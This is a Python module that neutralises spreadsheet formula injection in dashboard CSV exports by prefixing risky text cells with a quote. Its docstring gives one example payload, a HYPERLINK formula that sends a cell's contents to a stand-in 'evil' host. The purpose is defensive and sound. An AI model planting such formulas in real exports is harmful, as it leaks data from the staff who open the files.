"""Every file the dashboards hand out (CSV today) is written here, made safe to open.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, tab or carriage return) as a formula: a job name such as
``=HYPERLINK("http://evil/?"&B2, "x")`` would run on the staff member's
machine who opens the export. Following OWASP's rule, such text cells get a
leading ``'`` (shown as text, never run); numeric columns are left numeric,
so sums and sorting in the spreadsheet keep working.
"""

from __future__ import annotations

import io

import polars as pl

#: First characters that make a spreadsheet cell a formula (with full-width forms).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(text: str | None) -> str | None:
    """``text`` as a cell no spreadsheet runs as a formula."""
    if text and text.startswith(FORMULA_START):
        return "'" + text
    return text


def safe_text(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text column neutralised; other columns unchanged."""
    starts = "^[" + "".join(FORMULA_START).replace("-", r"\-") + "]"
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(starts)).then(pl.lit("'") + pl.col(name))
        .otherwise(pl.col(name)).alias(name)
        for name, dtype in frame.schema.items() if dtype == pl.Utf8
    )


def csv(frame: pl.DataFrame) -> io.StringIO:
    """A frame as CSV, safe to open in a spreadsheet."""
    out = io.StringIO()
    safe_text(frame).write_csv(out)
    out.seek(0)
    return out
